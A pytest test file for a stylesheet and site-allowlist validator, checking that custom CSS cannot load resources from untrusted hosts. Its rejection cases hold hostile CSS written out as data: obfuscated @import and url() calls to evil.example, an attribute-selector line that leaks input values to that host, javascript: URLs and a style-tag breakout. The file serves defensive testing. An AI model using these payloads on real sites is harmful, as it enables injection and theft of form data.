"""A style sheet loads nothing from elsewhere, however it is written; what is refused is named with its line."""

import pytest

from portico.domain.branding.errors import SiteRefused, StylesheetRefused
from portico.domain.branding.sites import covers, parse_site
from portico.domain.branding.stylesheets import checked_stylesheet

TRUSTED = {"image": ["https://cdn.example.com"], "style": ["https://*.fonts.example"]}


@pytest.mark.parametrize(
    "css",
    [
        ".po-btn{color:red}",
        ":root{--accent:#0f5f87;--radius:0}",
        "@media print{.po-nav{display:none}}",
        ".a{background:url(#x)}",
        ".a{background:url('/portal/x/brand/abc.svg')}",
        ".a{background:url(data:image/png;base64,AAAA)}",
        '.a{background:url("https://cdn.example.com/a.png")}',
        ".a{background:image-set('https://cdn.example.com/a.png' 1x)}",
        ".a{background:image-set(linear-gradient(var(--accent), white) 1x)}",
        "@import 'https://one.fonts.example/a.css';",
        '.a::before{content:"</style><script>alert(1)</script>"}',
        ".a::before{content:'\\3c /style\\3e '}",
        "/* </style> */ .a{}",
        ".a{.b{color:red}} @container (width>40em){.a{color:red}}",
    ],
)
def test_what_loads_nothing_from_elsewhere_is_taken(css: str) -> None:
    assert checked_stylesheet(css, TRUSTED)


@pytest.mark.parametrize(
    ("css", "code"),
    [
        ("@import url(https://evil.example/a.css);", "stylesheet_import"),
        ("@import 'https://evil.example/a.css';", "stylesheet_import"),
        ("@IMPORT 'a.css';", "stylesheet_import"),
        ("@\\69mport 'https://evil.example/a.css';", "stylesheet_import"),
        ("@import url('https://one.fonts.example.evil.example/a.css');", "stylesheet_import"),
        ("@media screen{@import 'https://evil.example/a.css';}", "stylesheet_import"),
        (".a{background:url(https://evil.example/a.png)}", "stylesheet_url"),
        (".a{background:url(//evil.example/a.png)}", "stylesheet_url"),
        (".a{background:url('/\\\\evil.example/a.png')}", "stylesheet_url"),
        (".a{background:URL(HTTPS://EVIL.EXAMPLE/a)}", "stylesheet_url"),
        (".a{background:\\75 rl(https://evil.example/a)}", "stylesheet_url"),
        (".a{background:u\\72l('https://evil.example/a')}", "stylesheet_url"),
        (".a{background:url('h\\74tps://evil.example/a')}", "stylesheet_url"),
        (".a{background:url(' \thttps://evil.example/a')}", "stylesheet_url"),
        (".a{background:image-set('https://evil.example/a' 1x)}", "stylesheet_url"),
        (".a{--x:url(https://evil.example/a)}", "stylesheet_url"),
        (".a{--x:'https://evil.example/a';background:image-set(var(--x) 1x)}", "stylesheet_url"),
        (".a{background:-webkit-image-set(VAR(--x, 'https://evil.example/a') 1x)}", "stylesheet_url"),
        (".a{background:src(attr(data-x))}", "stylesheet_url"),
        (".a{background:url('https://evil.example\\\\.fonts.example/a')}", "stylesheet_url"),
        ("@import 'https://evil.example\\\\.fonts.example/a.css';", "stylesheet_import"),
        ("input[value^=a]{background:url(https://evil.example/?a)}", "stylesheet_url"),
        ("@font-face{src:url(https://evil.example/f.woff2)}", "stylesheet_url"),
        (".a{background:url(data:text/html,x)}", "stylesheet_url"),
        (".a{background:url(javascript:alert(1))}", "stylesheet_broken"),
        (".a{background:url('javascript:alert(1)')}", "stylesheet_url"),
        (".a{background:url(https://user@cdn.example.com/a)}", "stylesheet_url"),
        (".a{background:url(http://cdn.example.com/a)}", "stylesheet_url"),
        (".a{background:url(https://cdn.example.com:444/a)}", "stylesheet_url"),
        (".a{content:'\n'}", "stylesheet_broken"),
        ("}", "stylesheet_broken"),
    ],
)
def test_what_would_is_refused_with_its_line(css: str, code: str) -> None:
    with pytest.raises(StylesheetRefused) as refused:
        checked_stylesheet(".ok{}\n" + css, TRUSTED)
    assert refused.value.code == code
    assert refused.value.line >= 2


def test_a_sheet_has_an_end() -> None:
    with pytest.raises(StylesheetRefused):
        checked_stylesheet("a{}" * 40_000, {})
    with pytest.raises(StylesheetRefused):
        checked_stylesheet("a{b:" + "(" * 20_000 + ")" * 20_000 + "}", {})


@pytest.mark.parametrize(
    ("text", "site"),
    [
        ("https://cdn.example.com", "https://cdn.example.com"),
        (" HTTPS://CDN.Example.com/ ", "https://cdn.example.com"),
        ("https://*.example.com", "https://*.example.com"),
        ("https://cdn.example.com:443", "https://cdn.example.com"),
        ("https://cdn.example.com:8443", "https://cdn.example.com:8443"),
        ("https://xn--bcher-kva.example", "https://xn--bcher-kva.example"),
    ],
)
def test_a_site_is_written_in_one_way(text: str, site: str) -> None:
    assert parse_site(text) == site


@pytest.mark.parametrize(
    "text",
    [
        "*", "https://*", "https:", "https://*.com", "*.example.com", "data:", "blob:", "http://cdn.example.com",
        "cdn.example.com", "https://127.0.0.1", "https://[::1]", "https://2130706433", "https://0x7f.1",
        "https://cdn.example.com/path?key=secret", "https://user:secret@cdn.example.com", "https://cdn.example.com;",
        "https://cdn.example.com 'unsafe-inline'", "'unsafe-inline'", "https://cdn.example.com\nscript-src *",
        "https://cdn.example.com,https://b.example", "https://a*.example.com", "https://*.*.example.com",
        "https://bücher.example", "https://cdn.example.com:0", "https://cdn.example.com:99999", "https://localhost", "",
        "https://-a.example.com", "https://a..example.com", "https://example.com.", "javascript:alert(1)",
    ],
)  # fmt: skip
def test_anything_else_is_no_site(text: str) -> None:
    with pytest.raises(SiteRefused):
        parse_site(text)


def test_a_site_covers_its_host_or_its_subdomains_alone() -> None:
    assert covers(["https://*.example.com"], "https://a.example.com/x")
    for other in (
        "https://example.com/x",
        "https://aexample.com",
        "http://a.example.com",
        "https://a.example.com:8",
        "https://evil.example\\.example.com/x",
    ):
        assert not covers(["https://*.example.com"], other)
